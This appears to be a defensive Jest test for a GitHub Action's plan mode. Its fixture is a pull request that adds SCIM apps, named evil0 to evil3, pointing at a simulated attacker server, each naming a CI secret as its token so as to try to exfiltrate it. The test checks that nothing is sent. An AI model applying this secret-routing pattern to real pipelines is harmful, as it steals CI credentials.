// The action's plan mode on a pull request that adds SCIM apps aimed at the author's server,
// each naming another of the job's secrets as its token: the plan job has those secrets, and
// sends none of them anywhere head says. Reviewers see the apps as taking effect after merge.
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  createGithubPlatform,
  newGithubRepo,
  newGithubState,
  type GithubSim
} from '../../src/sandbox/github/index.js'
import type { Sandbox } from '../../src/sandbox/index.js'
import { startSimServer, type SimServer } from '../../src/sandbox/shared/server.js'
import { fakeActionsCore } from '../support/action-core.js'
import { startCaptureServer, type CaptureServer } from '../support/capture.js'
import { createGithubOpenapiCheck } from '../support/github-openapi-check.js'
import { commitAll, initRepo } from '../support/git.js'
import { departIn, editAccess, startTreeSandbox } from '../support/sandbox-tree.js'
import { scratchTree } from '../support/tree.js'

const action = fakeActionsCore()
const { inputs, failures } = action
jest.unstable_mockModule('@actions/core', () => action.core)

/** The job's secrets: GitHub's for the simulated GitHub below, Slack's and AWS's for the
 *  sandbox's platforms, and the OIDC request token. */
const SECRETS: Record<string, string> = {
  SLACK_TOKEN: '',
  GITHUB_TOKEN: 'ghs_repo',
  AWS_SECRET_ACCESS_KEY: '',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-of-the-job'
}

let sim: GithubSim
let server: SimServer
let attacker: CaptureServer
let sandbox: Sandbox
let run: () => Promise<void>
const saved = { ...process.env }

beforeAll(async () => {
  const state = newGithubState('acme')
  state.users.push({ login: 'reviewer', id: 1, email: 'r@acme.example' })
  state.members.push({ login: 'reviewer', role: 'admin', state: 'active' })
  state.repos.push(newGithubRepo('access'))
  state.repos[0].issues.push({
    number: 8,
    title: 'alice leaves',
    body: '',
    state: 'open',
    labels: [],
    user: 'reviewer',
    pull_request: true
  } as never)
  sim = createGithubPlatform(state, {
    checkRequest: createGithubOpenapiCheck(),
    tokens: { ghs_repo: 'reviewer' }
  })
  server = await startSimServer(sim.platform)
  attacker = await startCaptureServer()
  ;({ sandbox } = await startTreeSandbox())
  // GitHub is the simulated one above; the sandbox serves the other platforms.
  const platformsEnv = { ...sandbox.env }
  delete platformsEnv.GITHUB_API_URL
  delete platformsEnv.GITHUB_TOKEN
  SECRETS.SLACK_TOKEN = platformsEnv.SLACK_TOKEN
  SECRETS.AWS_SECRET_ACCESS_KEY = platformsEnv.AWS_SECRET_ACCESS_KEY

  const cwd = scratchTree()
  const base = initRepo(cwd)
  departIn(cwd, 'alice')
  editAccess(cwd, 'platforms.yaml', t =>
    t.replace(
      '\nscim:\n',
      `\nscim:\n${Object.keys(SECRETS)
        .map((s, i) => `  - name: evil${i}\n    base_url: ${attacker.url}\n    token_env: ${s}\n`)
        .join('')}`
    )
  )
  const head = commitAll(cwd, 'alice leaves; SCIM apps')
  const event = join(mkdtempSync(join(tmpdir(), 'offboard-event-')), 'event.json')
  writeFileSync(
    event,
    JSON.stringify({
      action: 'synchronize',
      number: 8,
      pull_request: {
        number: 8,
        created_at: '2026-11-25T09:00:00Z',
        base: { sha: base, repo: { full_name: 'acme/access' } },
        head: { sha: head, ref: 'edit-platforms', repo: { full_name: 'acme/access' } }
      },
      repository: { full_name: 'acme/access', name: 'access', owner: { login: 'acme' } }
    })
  )
  Object.assign(process.env, {
    ...platformsEnv,
    ...SECRETS,
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: event,
    GITHUB_REPOSITORY: 'acme/access',
    GITHUB_API_URL: server.url,
    AWS_EC2_METADATA_DISABLED: 'true'
  })
  Object.assign(inputs, { mode: 'plan', 'access-dir': 'access', 'repo-token': 'ghs_repo' })
  process.chdir(cwd)
  ;({ run } = await import('../../src/main.js'))
})

afterAll(async () => {
  process.env = saved
  await Promise.all([server.close(), attacker.close(), sandbox.close()])
})

describe('action mode plan on a pull request adding SCIM apps', () => {
  it('sends no request and no secret to the apps head adds, and shows them as taking effect after merge', async () => {
    await run()
    expect(failures).toEqual([])
    expect(attacker.requests).toEqual([])
    for (const secret of Object.values(SECRETS)) expect(attacker.received()).not.toContain(secret)
    const comment = sim.state.repos[0].comments.find(c => c.issue_number === 8)!.body
    expect(comment).toMatch(/> \[!WARNING\]\n> \*\*platforms.yaml settings head changes/)
    for (const [i, s] of Object.keys(SECRETS).entries())
      expect(comment).toContain(
        `> - \`scim[evil${i}]\`: head adds this SCIM app (base_url ${attacker.url}, token_env ${s}): not planned in this change`
      )
    expect(comment).not.toMatch(/scim:evil/)
  })
})
